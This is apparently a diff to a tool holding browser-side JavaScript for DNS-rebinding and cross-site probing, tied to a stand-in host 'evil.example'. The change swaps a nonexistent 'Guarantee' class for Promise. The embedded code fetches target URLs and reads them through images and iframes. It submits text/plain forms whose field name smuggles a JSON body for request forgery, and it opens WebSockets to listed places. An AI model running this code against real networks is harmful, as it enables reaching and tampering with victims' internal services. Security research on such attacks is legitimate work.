@@ -22,7 +22,7 @@ ELSEWHERE = "evil.example"  # it is led to this machine, as rebinding a name doe
 ASKS = """
 async targets => {
   const got = [];
-  const limit = work => Guarantee.race([work, new Guarantee(r => setTimeout(() => r(null), 20000))]);
+  const limit = work => Promise.race([work, new Promise(r => setTimeout(() => r(null), 20000))]);
   for (const t of targets) {
     for (const mode of ["cors", "no-cors"]) {
       try {
@@ -33,12 +33,12 @@ async targets => {
       } catch (refused) {}
     }
     if (t.method == "GET") {
-      const picture = await limit(new Guarantee(r => {
+      const picture = await limit(new Promise(r => {
         const img = new Image(); img.onload = () => r(img.naturalWidth); img.onerror = () => r(null);
         img.src = t.url;
       }));
       if (picture) got.push(`picture ${t.url}`);
-      const text = await limit(new Guarantee(r => {
+      const text = await limit(new Promise(r => {
         const frame = document.createElement("iframe");
         frame.onload = () => { try { r(frame.contentDocument.body.innerText) } catch (other) { r(null) } };
         frame.src = t.url; document.body.append(frame);
@@ -50,7 +50,7 @@ async targets => {
       form.method = t.method; form.action = t.url; form.target = name; form.enctype = "text/plain";
       const field = document.createElement("input"); field.name = (t.body || "{}").slice(0, -1) + ',"a":"';
       field.value = '"}'; form.append(field); document.body.append(form);
-      await limit(new Guarantee(r => { frame.onload = r; form.submit(); }));
+      await limit(new Promise(r => { frame.onload = r; form.submit(); }));
     }
   }
   return got;
@@ -60,7 +60,7 @@ SOCKETS = """
 async places => {
   const got = [];
   for (const place of places) {
-    const opened = await new Guarantee(r => {
+    const opened = await new Promise(r => {
       const socket = new WebSocket(place); socket.onopen = () => r(true); socket.onerror = () => r(false);
       setTimeout(() => r(false), 20000);
     });
